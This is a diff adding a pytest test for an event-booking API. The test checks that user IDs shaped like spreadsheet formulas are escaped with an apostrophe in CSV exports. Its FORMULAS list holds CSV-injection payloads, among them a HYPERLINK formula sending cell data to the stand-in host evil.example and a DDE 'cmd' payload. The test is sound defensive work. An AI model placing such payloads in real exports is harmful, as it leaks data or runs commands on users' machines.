@@ -372,6 +372,23 @@ def test_bookings_as_csv_match_the_json_pages(queue, admin_get):
     assert exported == as_csv_text(pages) and len(exported) == 4
 
 
+# The issue's payloads (OWASP CSV injection): each a formula to a spreadsheet, if written as it came.
+FORMULAS = ["=1+1", '=HYPERLINK("http://evil.example/x?d="&A2,"open")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)"]
+
+
+@pytest.mark.parametrize("path", ["waiting-list", "bookings?status=waiting"])
+def test_a_user_id_that_a_spreadsheet_would_run_is_exported_as_text_and_listed_as_it_is(
+    new_event, book, admin_get, path
+):
+    event = new_event(1)
+    for user in ["holder", *FORMULAS]:
+        book(event, user)
+    exported = csv_rows(admin_get(f"/api/events/{event['id']}/{path}", Accept="text/csv"))
+    listed = admin_get(f"/api/events/{event['id']}/{path}").get_json()
+    assert [row["userId"] for row in exported] == [f"'{formula}" for formula in FORMULAS]
+    assert [entry["userId"] for entry in listed.get("entries", listed.get("bookings"))] == FORMULAS
+
+
 @pytest.mark.parametrize("path", ["waiting-list", "bookings"])
 @pytest.mark.parametrize("accept", ["application/json", "text/csv"])
 def test_lists_of_an_unknown_event_are_404(admin_get, path, accept):
